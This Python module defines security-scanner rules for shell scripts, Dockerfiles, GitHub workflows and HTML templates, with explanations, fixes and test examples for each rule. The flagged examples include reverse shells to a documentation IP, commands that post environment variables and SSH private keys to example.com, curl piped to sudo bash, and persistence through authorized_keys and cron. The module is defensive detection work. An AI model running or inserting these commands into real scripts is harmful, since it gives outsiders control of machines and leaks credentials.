"""Shell scripts, Dockerfiles, GitHub's workflows, pages."""

from __future__ import annotations

from shipui.gates.base import Example, Rule
from shipui.model.findings import Severity


def _rule(
    id: str,
    title: str,
    why: str,
    fix: str,
    severity: Severity,
    cwe: str,
    path: str,
    flagged: tuple[str, ...],
    unflagged: tuple[str, ...],
) -> Rule:
    return Rule(
        id,
        "security",
        title,
        why,
        fix,
        severity,
        cwe,
        tuple(Example(path, text) for text in flagged),
        tuple(Example(path, text) for text in unflagged),
    )


_WORKFLOW = ".github/workflows/build.yml"


def _workflow(event: str, step: str, permissions: str = "read-all") -> str:
    return f"on: {event}\npermissions: {permissions}\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n{step}"


RULES = (
    _rule(
        "shell-download-and-run",
        "Something is fetched and run",
        "Whoever holds the address, today or later, runs anything on this machine.",
        "Fetch a fixed version to a file, compare its checksum, then run it.",
        Severity.MEDIUM,
        "CWE-494",
        "scripts/setup.sh",
        (
            "curl -fsSL https://example.com/install.sh | sudo bash",
            "bash <(curl -s https://example.com/a)",
            "wget -qO- https://example.com/a |\\\n  sh",
        ),
        (
            "curl -fsSL https://example.com/a.tar.gz -o a.tar.gz",
            "# curl https://example.com/install.sh | sh",
            "curl -s https://example.com/a.json | jq .",
        ),
    ),
    _rule(
        "shell-decode-and-run",
        "Encoded commands are run",
        "Nobody who reads this can tell what it does; that is usually the purpose.",
        "Write the commands plainly.",
        Severity.HIGH,
        "CWE-506",
        "scripts/setup.sh",
        ("echo aWQK | base64 -d | sh",),
        ('echo "$DATA" | base64 -d > out.bin',),
    ),
    _rule(
        "shell-remote-shell",
        "A shell for somebody elsewhere",
        "This gives somebody elsewhere control of the machine.",
        "Take it out, and find out how it got here.",
        Severity.HIGH,
        "CWE-506",
        "scripts/setup.sh",
        ("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "nc -e /bin/sh 203.0.113.5 4444"),
        ("nc -z localhost 5432",),
    ),
    _rule(
        "shell-secrets-sent",
        "Secrets of the machine are sent away",
        "Passwords and keys of this machine reach somebody who has no business with them.",
        "Send only what the receiver needs, by name.",
        Severity.HIGH,
        "CWE-200",
        "scripts/report.sh",
        ("env | curl -X POST -d @- https://example.com/c", "curl -F key=@$HOME/.ssh/id_rsa https://example.com/c"),
        ('curl -H "Authorization: Bearer $API_TOKEN" https://api.example.com/v1', "env | sort"),
    ),
    _rule(
        "shell-persistence",
        "A change of who gets in, or of what runs at every start",
        "It stays after this script has ended.",
        "Configure machines with the tool that is meant for it, where others review it.",
        Severity.HIGH,
        "CWE-506",
        "scripts/setup.sh",
        ('echo "ssh-ed25519 AAAAC3Nza" >> ~/.ssh/authorized_keys', "(crontab -l; echo '* * * * * /tmp/x') | crontab -"),
        ("cat ~/.ssh/authorized_keys", "crontab -l"),
    ),
    _rule(
        "shell-eval",
        "Text is run as a command",
        "Whoever controls the variable can run any command on this machine.",
        'Call the command with its arguments in an array: "${command[@]}".',
        Severity.MEDIUM,
        "CWE-78",
        "scripts/run.sh",
        ('eval "$1"', "eval $COMMAND --now"),
        ('eval "$(ssh-agent -s)"', 'run "$@"', "echo 'eval $x'"),
    ),
    _rule(
        "shell-unset-removal",
        "Removes a path that begins with a variable",
        "When the variable is empty, this removes from the root of the machine.",
        'Write "${DIR:?}/…", or begin the script with set -u.',
        Severity.MEDIUM,
        "CWE-459",
        "scripts/clean.sh",
        ('rm -rf "$BUILD_DIR"/*', "rm -rf $BUILD_DIR/cache"),
        ('rm -rf "${BUILD_DIR:?}"/*', "set -eu\nrm -rf $BUILD_DIR/cache", 'rm -rf "$BUILD_DIR"', "rm -rf build/*"),
    ),
    _rule(
        "shell-open-permissions",
        "A file that everybody may change",
        "Any account of the machine can put its own content there.",
        "Give rights to the owner or a group alone: 750, 640.",
        Severity.MEDIUM,
        "CWE-732",
        "scripts/setup.sh",
        ("chmod -R 777 /srv/app", "chmod a+rw /srv/app/data"),
        ("chmod 755 run.sh", "chmod +x run.sh", "chmod 1777 /srv/tmp"),
    ),
    _rule(
        "shell-verification-off",
        "The other side is not checked",
        "Anybody on the way can change what is fetched or read what is sent.",
        "Leave the check on; install the authority's certificate or the host's key.",
        Severity.MEDIUM,
        "CWE-295",
        "scripts/setup.sh",
        ("curl -k https://example.com/a", "wget --no-check-certificate https://example.com/a"),
        ("curl -fsSL https://example.com/a", "curl --keepalive-time 5 https://example.com/a"),
    ),
    _rule(
        "docker-add-address",
        "An image takes in what an address gives",
        "The content may change, and nothing compares it.",
        "Use ADD --checksum=sha256:…, or fetch it in RUN and compare the checksum.",
        Severity.MEDIUM,
        "CWE-494",
        "Dockerfile",
        ("FROM debian:12\nADD https://example.com/tool /usr/bin/tool",),
        (
            "FROM debian:12\nADD --checksum=sha256:24454f830cdb571e2c4ad15481119c43b3cafd48dd869a9b2945d1036d1dc68d https://example.com/tool /usr/bin/tool",
            "FROM debian:12\nCOPY tool /usr/bin/tool",
        ),
    ),
    _rule(
        "docker-secret-in-image",
        "A secret becomes part of the image",
        "Whoever can pull the image can read it, in its configuration or its history.",
        "Use RUN --mount=type=secret while building, and the environment while running.",
        Severity.MEDIUM,
        "CWE-522",
        "Dockerfile",
        ("FROM node:22\nARG NPM_TOKEN\nRUN npm ci", "FROM node:22\nCOPY .env /app/.env"),
        (
            "FROM node:22\nRUN --mount=type=secret,id=npm npm ci",
            "FROM node:22\nENV TOKEN_URL=https://example.com NODE_ENV=production",
        ),
    ),
    _rule(
        "workflow-script-injection",
        "A text that anybody can write becomes part of a script",
        "Whoever opens an issue or a pull request can run commands with the rights of the workflow.",
        'Hand it over as a variable: env: TITLE: ${{ … }}, and "$TITLE" in the script.',
        Severity.HIGH,
        "CWE-78",
        _WORKFLOW,
        (
            _workflow("issues", '      - run: echo "${{ github.event.issue.title }}"'),
            _workflow(
                "pull_request", "      - run: |\n          git fetch\n          git checkout ${{ github.head_ref }}"
            ),
        ),
        (
            _workflow(
                "issues", '      - run: echo "$TITLE"\n        env:\n          TITLE: ${{ github.event.issue.title }}'
            ),
            _workflow("push", "      - run: echo ${{ github.sha }}"),
        ),
    ),
    _rule(
        "workflow-untrusted-checkout",
        "Code of strangers runs with the repository's secrets",
        "A pull request from a fork can change what this workflow runs, and so read its secrets.",
        "Use the event pull_request, or do not check out the pull request's code.",
        Severity.HIGH,
        "CWE-829",
        _WORKFLOW,
        (
            _workflow(
                "pull_request_target",
                "      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}",
            ),
        ),
        (
            _workflow(
                "pull_request",
                "      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}",
            ),
            _workflow("pull_request_target", "      - uses: actions/checkout@v4"),
        ),
    ),
    _rule(
        "workflow-secret-printed",
        "A secret is written into the log",
        "Masks of logs are easily got round, and logs are read by many.",
        "Hand secrets over as variables of the one step that needs them, and do not print them.",
        Severity.HIGH,
        "CWE-532",
        _WORKFLOW,
        (_workflow("push", "      - run: echo ${{ secrets.DEPLOY_KEY }}"),),
        (_workflow("push", "      - run: echo ${{ secrets.DEPLOY_KEY }} | docker login --password-stdin"),),
    ),
    _rule(
        "workflow-write-all",
        "A workflow may change everything",
        "Any action that it uses can push code, make releases and change issues.",
        "Name the permissions that the job needs.",
        Severity.MEDIUM,
        "CWE-250",
        _WORKFLOW,
        (_workflow("push", "      - run: make", "write-all"),),
        (_workflow("push", "      - run: make"),),
    ),
    _rule(
        "html-script-without-integrity",
        "A page runs a script from elsewhere unchecked",
        "Whoever controls that server runs scripts in this page.",
        'Add integrity="sha384-…" crossorigin="anonymous", or serve the file from here.',
        Severity.LOW,
        "CWE-353",
        "web/index.html",
        ('<script src="https://cdn.example.com/a.js"></script>',),
        (
            '<script src="https://cdn.example.com/a.js" integrity="sha384-oqVuAfXRKap7fdgcCY5uykM6" crossorigin="anonymous"></script>',
            '<script src="/static/a.js"></script>',
            '<!-- <script src="https://cdn.example.com/a.js"></script> -->',
        ),
    ),
    _rule(
        "html-script-address",
        "A link that runs a script",
        "A policy against scripts in pages cannot be used with it, and values in it run as code.",
        "Use a button, and add the handler in a script.",
        Severity.LOW,
        "CWE-79",
        "web/index.html",
        ('<a href="javascript:remove(1)">x</a>',),
        ('<a href="javascript:void(0)">x</a>', '<a href="/javascript:guide">x</a>'),
    ),
    _rule(
        "html-handler-from-template",
        "A value becomes part of a script in a page",
        "Escaping for HTML does not help there: the value can end the text that it stands in.",
        "Put the value into a data- attribute, and read it in a script.",
        Severity.MEDIUM,
        "CWE-79",
        "templates/list.html",
        ("<button onclick=\"remove('{{ name }}')\">x</button>",),
        ('<button data-name="{{ name }}">x</button>',),
    ),
    _rule(
        "html-unescaped",
        "A template prints a value unescaped",
        "A visitor can put scripts into the page that others see.",
        "Leave escaping on; clean HTML that users write on the server (nh3, DOMPurify).",
        Severity.MEDIUM,
        "CWE-79",
        "templates/list.html",
        ("<p>{{ comment|safe }}</p>", "{% autoescape off %}{{ x }}{% endautoescape %}"),
        ("<p>{{ comment }}</p>", "<p>{{ comment|escape }}</p>"),
    ),
)
BY_ID = {rule.id: rule for rule in RULES}
